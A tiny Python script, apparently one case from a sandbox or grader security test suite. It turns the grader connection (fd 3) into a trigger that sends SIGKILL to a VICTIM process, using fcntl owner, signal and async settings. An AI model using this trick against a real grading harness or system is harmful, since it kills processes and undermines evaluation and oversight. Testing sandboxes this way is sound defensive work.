"""The same with the connection to the grader. Success: a process is gone."""

import fcntl
import os
import struct


def attack():
    fcntl.fcntl(3, 15, struct.pack("ii", 1, VICTIM))
    fcntl.fcntl(3, 10, 9)
    fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC)
